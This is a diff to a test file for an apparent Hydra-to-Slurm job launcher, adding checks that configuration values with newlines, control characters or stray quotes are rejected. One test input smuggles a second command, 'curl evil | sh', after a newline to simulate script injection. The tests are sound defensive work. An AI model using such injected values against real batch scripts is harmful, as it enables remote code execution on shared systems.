@@ -43,6 +43,21 @@ def slurm(tmp_path, monkeypatch):
         ),
         ({"mem_gb": 0}, r"hydra.launcher.mem_gb must be greater than 0, got 0"),
         ({"setup": "module load cuda"}, r"hydra.launcher.setup must be a list of names"),
+        *(
+            (
+                {name: f"a\n{evil}"},
+                rf"hydra.launcher.{name} must be one line without control characters, got 'a\\\\n",
+            )
+            for evil in ["curl evil | sh"]
+            for name in ("partition", "account", "qos", "constraint", "python")
+        ),
+        ({"setup": ["a\rb"]}, r"hydra.launcher.setup must be one line"),
+        ({"additional_parameters": {"comment": "a\nb"}}, r"additional_parameters.comment must be one line"),
+        (
+            {"additional_parameters": {"a\nb": 1}},
+            r"additional_parameters must give a text or a number for each",
+        ),
+        ({"python": "a 'b"}, r"hydra.launcher.python must be a command"),
         (
             {"timeout_min": 1, "signal_delay_s": 60},
             r"signal_delay_s must be below the limit of a job \(60 s\), got 60",
@@ -225,7 +240,8 @@ def test_the_script_for_slurm(sweep, slurm):
     submission = array.submit(sweep, [0, 2, 3], options)
     assert submission.job_ids == ["31_0", "31_1", "31_2"]
     assert submissions(sweep) == [submission]
-    script = (sweep.path / "slurm" / "seen").read_text().splitlines()
+    (seen,) = sweep.path.glob("slurm/*/seen")  # a folder of its own, in which nobody has put a task
+    script = seen.read_text().splitlines()
     for flag in (
         "--array=0-2%3", "--partition=gpu", "--account=me", "--constraint='a100&nvlink'", "--time=90",
         "--gpus-per-node=1", "--requeue", "--signal=USR2@120", "--open-mode=append", "--job-name=demo",
